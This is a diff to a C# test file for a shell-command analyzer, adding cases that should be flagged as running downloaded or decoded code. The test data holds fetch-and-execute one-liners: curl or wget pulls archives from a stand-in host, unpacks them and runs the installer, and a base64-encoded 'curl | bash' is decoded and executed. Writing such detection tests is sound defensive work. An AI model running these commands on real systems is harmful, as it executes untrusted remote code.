@@ -113,6 +113,31 @@ public class GitAndProvenanceTests
     public void FilesTheCallDownloadsRunDownloadedCode(string command, string host) =>
         Of(command).Has(EffectKind.ExecuteCode, detail: "download", host: host);
 
+    [Theory]
+    [InlineData("curl -sSL https://x.example/tool.tar.gz | tar xz -C /tmp && /tmp/tool/install.sh", "x.example")]
+    [InlineData("curl -sSL https://x.example/t.tgz | tar -xzf - -C /tmp/t && bash /tmp/t/setup.sh", "x.example")]
+    [InlineData("curl -o /tmp/t.tgz https://x.example/t.tgz && tar xzf /tmp/t.tgz -C /tmp/t && sh /tmp/t/run.sh", "x.example")]
+    [InlineData("wget -O /tmp/t.zip https://x.example/t.zip && unzip /tmp/t.zip -d /tmp/t && /tmp/t/bin/go", "x.example")]
+    public void FilesUnpackedFromADownloadRunDownloadedCode(string command, string host) =>
+        Of(command).Has(EffectKind.ExecuteCode, detail: "download", host: host);
+
+    [Theory]
+    [InlineData("echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS9pIHwgYmFzaA== | base64 -d > /tmp/x.sh && bash /tmp/x.sh")]
+    [InlineData("base64 -d payload.b64 > /tmp/run && chmod +x /tmp/run && /tmp/run")]
+    [InlineData("printf '\\x6c\\x73' > /tmp/y.sh; sh /tmp/y.sh")]
+    public void FilesWrittenByADecoderRunDecodedCode(string command) =>
+        Of(command).Has(EffectKind.ExecuteCode, detail: "decoded");
+
+    [Theory]
+    [InlineData("tar xzf vendor.tgz -C /tmp/v && bash /tmp/v/build.sh")]
+    [InlineData("echo 'ls -la' > /tmp/y.sh; sh /tmp/y.sh")]
+    public void UnpackingOrWritingLocalTextIsNotADownload(string command)
+    {
+        var effects = Of(command);
+        Assert.Contains(effects, e => e.Kind == EffectKind.ExecuteCode);
+        Assert.DoesNotContain(effects, e => e.Kind == EffectKind.ExecuteCode && e.Detail is "download" or "decoded");
+    }
+
     [Fact]
     public void ScriptsStillNameWhereTheyAre()
     {
